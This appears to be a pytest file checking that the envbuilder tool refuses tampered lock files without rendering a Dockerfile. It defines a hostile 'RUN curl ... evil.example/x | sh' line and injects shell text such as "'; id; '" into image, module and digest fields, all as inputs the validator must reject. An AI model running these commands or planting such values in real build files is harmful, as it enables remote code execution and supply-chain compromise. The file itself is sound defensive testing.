"""envbuilder.lock is input: a hand-edited or hostile lock is refused in one line, never rendered.

A value of the wrong form is bad input (exit 2, naming the lock file and the field); a well-formed value the
spec does not give is a stale lock (exit 1, naming the field), for `lock --check`, `render` and
`render --check` alike. Only what the release index alone knows (the tarballs' sha256 and size) is taken on
trust, once its form is checked.
"""

from __future__ import annotations

import json

import pytest

from envbuilder.errors import EXIT_BAD_INPUT, EXIT_CHECK_FAILED
from envbuilder.lock import LOCK_NAME

from .lockkit import edit_lock, envbuilder, locked_project

RUN_LINE = "\nRUN curl -fsS https://evil.example/x | sh"


@pytest.fixture
def spec(tmp_path):
    return locked_project(tmp_path)


def refused(spec, code: int, *fields: str, commands=(("lock", "--check"), ("render",), ("render", "--check"))):
    """Every command refuses the lock with CODE in one line naming the lock and FIELDS; nothing is rendered."""
    for command in commands:
        result = envbuilder(*command, "-f", str(spec))
        assert result.code == code, (command, result)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1, result.stderr
        assert lines[0].startswith(f"envbuilder: {spec.parent / LOCK_NAME}: "), lines[0]
        for field in fields:
            assert field in lines[0], lines[0]
        assert "Traceback" not in result.stderr
    assert not (spec.parent / "Dockerfile").exists()
    return lines[0]


def test_the_untouched_lock_is_up_to_date_and_renders(spec):
    assert envbuilder("lock", "--check", "-f", str(spec)).code == 0
    assert envbuilder("render", "-f", str(spec)).code == 0
    assert envbuilder("render", "--check", "-f", str(spec)).code == 0


def test_a_base_image_with_a_newline_and_a_run_line_is_refused(spec):
    edit_lock(spec, lambda lock: lock["base"].update(image="debian:bookworm-slim" + RUN_LINE))
    refused(spec, EXIT_BAD_INPUT, ": base.image: ", "not an image reference")


def test_a_base_image_the_spec_does_not_name_is_stale(spec):
    edit_lock(spec, lambda lock: lock["base"].update(image="evil.example/debian"))
    assert "stale" in refused(spec, EXIT_CHECK_FAILED, ": base.image: ")


def test_a_base_image_with_its_own_digest_is_refused(spec):
    edit_lock(spec, lambda lock: lock["base"].update(image="debian:bookworm-slim@sha256:" + "ab" * 32))
    refused(spec, EXIT_BAD_INPUT, ": base.image: ")


def test_a_go_matrix_archive_key_with_a_run_line_is_refused(spec):
    def rename(lock):
        archives = lock["go_matrix"][0]["archives"]
        archives["linux/amd64) ;;" + RUN_LINE] = archives.pop("linux/amd64")

    edit_lock(spec, rename)
    line = refused(spec, EXIT_BAD_INPUT, ": go_matrix[0].archives.")
    assert "\\n" in line  # the key is shown escaped, so the message stays one line


def test_an_archive_for_a_platform_the_spec_does_not_build_is_stale(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"].pop("linux/arm64"))
    refused(spec, EXIT_CHECK_FAILED, ": stale: go.archives: ")


def test_a_tampered_tool_module_is_stale(spec):
    edit_lock(spec, lambda lock: lock["tools"][0].update(module="evil.example/gopls"))
    refused(spec, EXIT_CHECK_FAILED, ": stale: tools[0].module: ", "evil.example/gopls")


def test_a_tool_module_with_shell_text_is_refused(spec):
    edit_lock(spec, lambda lock: lock["tools"][1].update(module="gotest.tools/gotestsum'; id; '"))
    refused(spec, EXIT_BAD_INPUT, ": tools[1].module: ", "not a Go module path")


def test_a_tool_moved_to_another_stage_is_stale(spec):
    edit_lock(spec, lambda lock: lock["tools"][1].update(stage="dev"))
    refused(spec, EXIT_CHECK_FAILED, ": stale: tools[1].stage: ")


def test_an_unknown_tool_stage_is_refused(spec):
    edit_lock(spec, lambda lock: lock["tools"][1].update(stage="base"))
    refused(spec, EXIT_BAD_INPUT, ": tools[1].stage: ")


def test_a_toolchain_policy_the_spec_does_not_set_is_stale(spec):
    edit_lock(spec, lambda lock: lock["go_matrix"][0].update(toolchain="auto"))
    refused(spec, EXIT_CHECK_FAILED, ": stale: go_matrix[0].toolchain: ", '"auto"')


def test_a_toolchain_with_a_run_line_is_refused(spec):
    edit_lock(spec, lambda lock: lock["go"].update(toolchain="local" + RUN_LINE))
    refused(spec, EXIT_BAD_INPUT, ": go.toolchain: ")


def test_an_archive_url_off_the_spec_mirror_is_stale(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(
        url="https://evil.example/go1.22.10.linux-amd64.tar.gz"))
    refused(spec, EXIT_CHECK_FAILED, ": stale: go.archives.linux/amd64.url: ")


def test_an_archive_url_for_another_file_is_refused(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(url="https://evil.example/x.tar.gz"))
    refused(spec, EXIT_BAD_INPUT, ": go.archives.linux/amd64.url: ", "filename")


def test_an_archive_sha256_that_is_not_a_digest_is_refused(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(sha256="ab'; id; echo '" + "0" * 50))
    refused(spec, EXIT_BAD_INPUT, ": go.archives.linux/amd64.sha256: ", "sha256 hex digest")


def test_an_archive_filename_of_another_release_is_refused(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(
        filename="go1.22.9.linux-amd64.tar.gz", url=lock["go"]["archives"]["linux/amd64"]["url"].replace(
            "1.22.10", "1.22.9")))
    refused(spec, EXIT_BAD_INPUT, ": go.archives.linux/amd64.filename: ")


def test_a_negative_or_textual_size_is_refused(spec):
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(size=-1))
    refused(spec, EXIT_BAD_INPUT, ": go.archives.linux/amd64.size: ")
    edit_lock(spec, lambda lock: lock["go"]["archives"]["linux/amd64"].update(size="32"))
    refused(spec, EXIT_BAD_INPUT, ": go.archives.linux/amd64.size: ")


def test_a_go_release_outside_the_requested_minor_is_refused(spec):
    def other_release(lock):
        go = lock["go"]
        go["version"] = "1.23.4"
        for platform, archive in go["archives"].items():
            archive["filename"] = archive["filename"].replace("1.22.10", "1.23.4")
            archive["url"] = archive["url"].replace("1.22.10", "1.23.4")

    edit_lock(spec, other_release)
    refused(spec, EXIT_BAD_INPUT, ": go.version: ", "requested Go 1.22")


def test_a_requested_version_the_spec_does_not_ask_for_is_stale(spec):
    def requested_exact(lock):
        lock["go"]["requested"] = "1.22.10"

    edit_lock(spec, requested_exact)
    refused(spec, EXIT_CHECK_FAILED, ": stale: go.requested: ")


def test_a_base_digest_other_than_the_spec_pins_is_stale(spec):
    edit_lock(spec, lambda lock: lock["base"].update(digest="sha256:" + "ab" * 32))
    refused(spec, EXIT_CHECK_FAILED, ": stale: base.digest: ")


def test_a_base_digest_that_is_not_a_digest_is_refused(spec):
    edit_lock(spec, lambda lock: lock["base"].update(digest="sha256:" + "ab" * 32 + RUN_LINE))
    refused(spec, EXIT_BAD_INPUT, ": base.digest: ")


def test_an_unpinned_spec_takes_the_engines_digest_from_the_lock(tmp_path):
    """Without a digest in the spec, the lock's digest is what an engine reported at lock time: kept."""
    spec = locked_project(tmp_path, base="debian:bookworm-slim")
    edit_lock(spec, lambda lock: lock["base"].update(digest="sha256:" + "ab" * 32))
    assert envbuilder("lock", "--check", "-f", str(spec)).code == 0
    assert envbuilder("render", "-f", str(spec)).code == 0
    assert "FROM debian:bookworm-slim@sha256:" + "ab" * 32 + " AS base" in (spec.parent / "Dockerfile").read_text()


@pytest.mark.parametrize("version", [2, 0, "1", True, None])
def test_an_unsupported_lock_version_says_which_one_is(spec, version):
    edit_lock(spec, lambda lock: lock.update(lock_version=version))
    line = refused(spec, EXIT_BAD_INPUT, ": lock_version: ", "this envbuilder reads lock_version 1")
    assert "(and" not in line or version is None


def test_a_newer_lock_version_is_named_before_its_other_fields(spec):
    edit_lock(spec, lambda lock: lock.update(lock_version=2, go={"release": "1.22.10"}))
    refused(spec, EXIT_BAD_INPUT, ": lock_version: 2 is not supported")


@pytest.mark.parametrize("where", ["top", "go", "archive", "tool"])
def test_unknown_keys_are_refused(spec, where):
    def add(lock):
        node = {"top": lock, "go": lock["go"], "archive": lock["go"]["archives"]["linux/amd64"],
                "tool": lock["tools"][0]}[where]
        node["extra"] = "RUN id"

    edit_lock(spec, add)
    assert "unknown key" in refused(spec, EXIT_BAD_INPUT, "extra")


def test_a_lock_that_is_not_json_is_refused_in_one_line(spec):
    (spec.parent / LOCK_NAME).write_text('{"go": ' + RUN_LINE)
    refused(spec, EXIT_BAD_INPUT, "Invalid JSON")


def test_a_lock_written_with_other_formatting_is_still_up_to_date(spec):
    """Only values count: indentation and key order are not the spec's business."""
    lock_path = spec.parent / LOCK_NAME
    lock_path.write_text(json.dumps(json.loads(lock_path.read_text())))
    assert envbuilder("lock", "--check", "-f", str(spec)).code == 0


@pytest.mark.parametrize("field", ["base", "version", "arch", "path"])
def test_render_refuses_unquotable_lock_values_even_from_an_unvalidated_lock(field):
    """The second wall: FROM's image, the download step's case pattern and COPY's source are written bare,
    so render checks their pattern again, whatever built the Lock object."""
    from envbuilder.errors import InputError
    from envbuilder.lock import ArchiveLock, BaseLock, GoLock
    from envbuilder.render import render_all
    from envbuilder.spec.models import Spec

    from .renderkit import offline_lock

    spec = Spec.model_validate({"name": "payments", "go": {"version": "1.22"}})
    lock = offline_lock(spec)
    archive = lock.go.archives["linux/amd64"]
    if field == "base":
        hostile = lock.model_copy(update={"base": BaseLock.model_construct(image="debian" + RUN_LINE, digest=None)})
    elif field == "version":
        hostile = lock.model_copy(update={"go": lock.go.model_copy(update={"version": "1.22.10)" + RUN_LINE})})
    elif field == "arch":
        hostile = lock.model_copy(update={"go": GoLock.model_construct(
            requested="1.22", version="1.22.10", toolchain="local", archives={"linux/amd64 x" + RUN_LINE: archive})})
    else:
        offline = ArchiveLock.model_construct(filename=archive.filename, url=None, path="go.tar.gz /etc" + RUN_LINE,
                                              sha256=archive.sha256, size=1)
        hostile = lock.model_copy(update={"go": lock.go.model_copy(update={"archives": {"linux/amd64": offline}})})
    with pytest.raises(InputError, match="refusing to render"):
        render_all(spec, hostile)


@pytest.mark.parametrize("size", ["32", -1, 1.5, True])
def test_a_release_index_size_the_lock_cannot_hold_is_refused_in_one_line(tmp_path, size):
    """What the release index gives is validated (by the index reader, else by the lock's model) before any
    lock is written: one line naming the index and the field."""
    spec = locked_project(tmp_path)
    (spec.parent / LOCK_NAME).unlink()
    index = tmp_path / "dl" / "index.json"
    releases = json.loads(index.read_text())
    for release in releases:
        for f in release["files"]:
            f["size"] = size
    index.write_text(json.dumps(releases))
    result = envbuilder("lock", "-f", str(spec))
    assert result.code == EXIT_BAD_INPUT, result
    assert result.stderr.count("\n") == 1 and "index.json: " in result.stderr
    assert ".size: " in result.stderr
    assert not (spec.parent / LOCK_NAME).exists()
